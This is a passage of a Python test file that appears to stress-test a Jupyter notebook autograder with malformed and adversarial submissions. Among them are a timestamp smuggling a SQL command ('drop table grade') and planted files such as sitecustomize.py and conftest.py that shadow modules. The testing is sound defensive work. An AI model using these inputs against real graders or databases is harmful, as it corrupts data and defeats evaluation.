            {"cell_type": "code", "metadata": {}, "source": "#" * 70_000, "outputs": []})),
        "characters"),
    refused("half a notebook", as_text(lambda t: t[: len(t) // 2].encode()), "not a Jupyter"),
    refused("cells that are numbers", as_json(lambda d: d.update(cells=[1, None])), "no cell"),
    refused("a cell that is no text", as_json(lambda d: cells_of(d)[0].update(source={"a": 1})),
            "no text"),
    refused("Latin letters", as_text(lambda t: t.replace("Attacked", "é").encode("latin-1"))),
    refused("nothing but zeros", lambda nb: bytes(10**6)),
    accepted("not a number", as_text(lambda t: t.replace(
        '"nbformat":',
        '"n": NaN, "i": -Infinity, "e": 1e999, "z": 1' + "0" * 5000 + ', "nbformat":')
        .encode())),
    accepted("UTF-16", as_text(lambda t: t.encode("utf-16"))),
    accepted("halves of letters", as_text(lambda t: t.replace("# Attacked", "\\ud800").encode())),
    accepted("keys that come twice", as_text(
        lambda t: (t.rstrip()[:-1] + ', "nbformat": 4, "metadata": {}}').encode())),
    accepted("outputs that are too deep", as_text(lambda t: t.replace(
        '"outputs": []', '"outputs": ' + "[" * 90_000 + "]" * 90_000, 1).encode())),
    refused("a time that is none", files={"timestamp.txt": b"now; drop table grade"},
            reason="tells no time"),
    refused("a time that is too long", files={"timestamp.txt": b"2" * 10**6}, reason="larger|time"),
    refused("a time beyond all calendars", files={"timestamp.txt": b"9999-99-99 00:00:00 UTC"},
            reason="tells no time"),
    accepted("other files beside it", files={
        "numpy.py": b"raise SystemExit", "conftest.py": b"x = 1/0", "nbgrader_config.py": b"1/0",
        "sitecustomize.py": b"1/0", "data.csv": b"1,2"}),
]  # fmt: skip

ALL = [
    *FORGED, *IPYTHON, *NOTEBOOK, *SECRETS, *WRITING, *ENDING, *GAMING, *DISPLAY, *INTAKE,
]  # fmt: skip
# What the judge defends alone, without any sandbox.
JUDGE_ALONE = ("forged", "ipython", "notebook", "gaming", "display", "intake")
